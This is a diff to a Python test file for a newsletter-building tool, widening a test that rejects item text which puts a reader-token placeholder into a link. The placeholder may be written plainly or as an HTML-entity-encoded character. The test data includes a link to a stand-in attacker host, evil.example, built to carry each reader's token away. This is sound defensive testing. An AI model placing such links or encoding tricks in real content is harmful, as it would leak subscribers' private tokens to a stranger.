@@ -7,6 +7,7 @@ import pytest
 
 from curator.config import Campaign
 from curator.errors import CuratorError
+from curator.issues import marks
 from curator.issues.page import campaign, day_words, headline, leading_emoji, make_page, preheader
 from curator.model import SENTINELS, Image, Item, ItemKind
 from tests.support import issues
@@ -149,10 +150,10 @@ def test_a_picture_is_fitted_into_the_column():
     assert [(p.width, p.height) for p in shown] == [(560, 315), (300, 200), (560, None), (560, None)]
 
 
-@pytest.mark.parametrize("sentinel", SENTINELS)
+@pytest.mark.parametrize("sentinel", [*SENTINELS, marks.WORD])
 def test_a_text_may_not_hold_the_place_of_a_readers_token(sentinel):
     """Else an item's link would carry every reader's own token to a stranger, however it is spelled."""
-    spelled = "&#114;" + sentinel[1:]
+    spelled = f"&#{ord(sentinel[0])};" + sentinel[1:]
     for text in (f"[x](https://evil.example/?{sentinel})", f"[x](https://evil.example/?{spelled})"):
         with pytest.raises(CuratorError, match="item 2"):
             make_page(of(story("**a**"), story(text)), settings())
